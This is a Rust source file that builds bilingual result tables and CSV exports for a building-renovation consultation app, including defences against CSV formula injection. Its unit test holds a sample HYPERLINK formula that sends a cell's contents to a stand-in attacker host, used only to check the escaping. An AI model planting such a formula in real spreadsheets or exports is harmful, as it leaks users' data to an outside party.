//! The results as tables (summary, per-item support) and as CSV: one export for the app (made on the phone)
//! and the server (which also writes the same tables as XLSX). Labels are bilingual, Chinese first, from
//! the feature's words; every verdict comes from the core with the rule set in force.

use super::{Electorate, MenuItem, ProjectFields, Tally, Words};
use crate::Lang;
use crate::i18n::{fill, fraction_words};
use crate::rules::RenovationRules;
use std::collections::HashMap;

/// A cell of an exported table.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    Text(String),
    Num(f64),
    /// A ratio, shown as a percentage.
    Pct(f64),
}

fn t(s: impl Into<String>) -> Cell {
    Cell::Text(s.into())
}

fn yes_no(b: bool) -> Cell {
    t(if b { Words::Yes } else { Words::No }.both())
}

/// The two tables of an export: summary (measure, value) and per-item support.
pub struct Tables {
    pub summary: Vec<(String, Cell)>,
    pub item_header: Vec<String>,
    pub items: Vec<Vec<Cell>>,
}

/// The header of the summary table.
pub fn summary_header() -> [String; 2] {
    [Words::ColMeasure.both(), Words::ColValue.both()]
}

/// A label with a hole filled in both languages: "覆盖率达到三分之二 (Coverage meets two thirds)".
fn both_with(w: Words, arg: impl Fn(Lang) -> String) -> String {
    format!(
        "{} ({})",
        fill(w.zh(), &[&arg(Lang::Zh)]),
        fill(w.en(), &[&arg(Lang::En)])
    )
}

/// The tables of a project's results. Every verdict comes from the core with the server's rule set.
/// `waiting`: ballots recorded on this phone and not yet accepted by the server (shown apart, never
/// counted); `None` where there is no such thing (the server's own exports).
pub fn tables(
    p: &ProjectFields,
    menu: &[MenuItem],
    tally: &Tally,
    rules: &RenovationRules,
    waiting: Option<u64>,
) -> Tables {
    let a = &tally.art278;
    let s = |k: Words, v: Cell| (k.both(), v);
    let c = &tally.coverage;
    let rounds = p.consultation_verdict(rules);
    let mut summary = vec![
        s(Words::RowProject, t(p.name.clone())),
        s(
            Words::RowSurveyPeriod,
            t(format!("{} – {}", p.survey_opens, p.survey_closes)),
        ),
        s(Words::RowHouseholds, Cell::Num(c.total as f64)),
        s(Words::RowResponded, Cell::Num(c.responded as f64)),
        s(
            Words::RowRespondedOfAll,
            t(format!("{}/{}", c.responded, c.total)),
        ),
        s(Words::RowCoverage, Cell::Pct(c.ratio)),
        (
            both_with(Words::RowCoverageMeets, |l| fraction_words(c.threshold, l)),
            yes_no(c.met),
        ),
        s(
            Words::RowAgreeing,
            Cell::Num(tally.agreement.households as f64),
        ),
        s(
            Words::RowAgreeingShareAll,
            Cell::Pct(tally.agreement.households_ratio),
        ),
        s(
            Words::RowAgreeingShareResponded,
            Cell::Pct(tally.agreement.households_ratio_of_responded),
        ),
        s(Words::RowAgreeingArea, Cell::Num(tally.agreement.area_m2)),
        s(
            Words::RowAgreeingAreaShareAll,
            Cell::Pct(tally.agreement.area_ratio),
        ),
        s(
            Words::RowAgreeingAreaShareResponded,
            Cell::Pct(tally.agreement.area_ratio_of_responded),
        ),
        s(
            Words::RowParticipationArea,
            Cell::Pct(a.participation.area_ratio),
        ),
        s(
            Words::RowParticipationOwners,
            Cell::Pct(a.participation.owners_ratio),
        ),
        s(
            Words::RowParticipationThreshold,
            t(a.participation.threshold.clone()),
        ),
        s(Words::RowConsentArea, Cell::Pct(a.consent.area_ratio)),
        s(Words::RowConsentOwners, Cell::Pct(a.consent.owners_ratio)),
        s(Words::RowConsentThreshold, t(a.consent.threshold.clone())),
        s(Words::RowArt278Passed, yes_no(a.passed)),
        s(Words::RowExplanationZh, t(a.explanation_zh.clone())),
        s(Words::RowExplanationEn, t(a.explanation_en.clone())),
        s(
            Words::RowChangedAnswers,
            Cell::Num(tally.changed_answers as f64),
        ),
        (
            format!(
                "{} ({})",
                Words::RowRounds.both(),
                both_with(Words::RowRoundsMin, |_| rounds.min.to_string())
            ),
            t(format!(
                "{} / {} {}",
                rounds.held,
                rounds.min,
                if rounds.met { "✓" } else { "✗" }
            )),
        ),
    ];
    if let Some(w) = waiting {
        summary.insert(5, s(Words::RowWaiting, Cell::Num(w as f64)));
    }
    if let Some(r) = p.return_rate_verdict(rules) {
        summary.push(s(
            Words::RowReturnRate,
            t(format!(
                "{:.1}% (≥ {:.1}%) {}",
                r.value,
                r.min,
                if r.met { "✓" } else { "✗" }
            )),
        ));
    }
    let by_id: HashMap<String, &MenuItem> = menu.iter().map(|m| (m.id.to_string(), m)).collect();
    let items = tally
        .items
        .iter()
        .enumerate()
        .map(|(i, it)| {
            let m = by_id.get(&it.id);
            let electorate = match m.map(|m| m.fields.electorate) {
                Some(Electorate::Building { .. }) => Words::ElectorateBuilding,
                Some(Electorate::Unit { .. }) => Words::ElectorateUnit,
                _ => Words::ElectorateCompound,
            };
            vec![
                Cell::Num((i + 1) as f64),
                t(m.map(|m| m.fields.name.clone())
                    .unwrap_or_else(|| it.id.clone())),
                t(m.map(|m| m.fields.class.words().both()).unwrap_or_default()),
                m.map_or(t(""), |m| Cell::Num(m.fields.cost_yuan)),
                m.and_then(|m| m.fields.share_per_household_yuan)
                    .map_or(t(""), Cell::Num),
                Cell::Num(it.households as f64),
                Cell::Num(it.area_m2),
                Cell::Pct(it.ratio_of_responded),
                yes_no(m.is_some_and(|m| m.fields.owners_decision)),
                yes_no(it.art278.passed),
                t(it.art278.explanation_zh.clone()),
                t(it.id.clone()),
                t(electorate.both()),
            ]
        })
        .collect();
    Tables {
        summary,
        item_header: [
            Words::ColNo,
            Words::ColItem,
            Words::ColClass,
            Words::ColCost,
            Words::ColShare,
            Words::ColSupport,
            Words::ColSupportArea,
            Words::ColSupportShare,
            Words::ColOwnersDecision,
            Words::ColArt278Passed,
            Words::ColExplanation,
            Words::ColId,
            Words::ColElectorate,
        ]
        .iter()
        .map(|w| w.both())
        .collect(),
        items,
    }
}

/// A text field of a CSV file: quoted where needed, and a text a spreadsheet would read as a formula
/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) neutralised with a leading `'`
/// (CSV injection). Numbers are written by `csv_cell` and never pass here.
pub fn csv_field(s: &str) -> String {
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_string()
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// A cell of a CSV file (numbers rounded to hundredths, ratios as percentages).
pub fn csv_cell(c: &Cell) -> String {
    match c {
        Cell::Text(s) => csv_field(s),
        Cell::Num(n) => format!("{}", (n * 100.0).round() / 100.0),
        Cell::Pct(r) => format!("{:.1}%", r * 100.0),
    }
}

/// The CSV export: UTF-8 with a BOM (so Excel reads Chinese), the summary table, a blank line, the items table.
pub fn to_csv(tb: &Tables) -> String {
    let mut out = String::from("\u{feff}");
    let line = |out: &mut String, cells: Vec<String>| {
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    };
    line(
        &mut out,
        summary_header().iter().map(|s| csv_field(s)).collect(),
    );
    for (k, v) in &tb.summary {
        line(&mut out, vec![csv_field(k), csv_cell(v)]);
    }
    out.push_str("\r\n");
    line(
        &mut out,
        tb.item_header.iter().map(|s| csv_field(s)).collect(),
    );
    for row in &tb.items {
        line(&mut out, row.iter().map(csv_cell).collect());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quoting() {
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("plain"), "plain");
        // Moved from the app, which now writes the core's CSV.
        assert_eq!(csv_field("路面"), "路面");
        // CSV injection: what a spreadsheet would run as a formula is written as text.
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\""
        );
        assert_eq!(csv_field("+1"), "'+1");
        assert_eq!(csv_field("-2"), "'-2");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("\tx"), "'\tx");
        assert_eq!(csv_cell(&Cell::Num(-3.0)), "-3", "numbers stay numbers");
        assert_eq!(csv_cell(&Cell::Pct(2.0 / 3.0)), "66.7%");
        assert_eq!(csv_cell(&Cell::Num(72.456)), "72.46");
    }
}
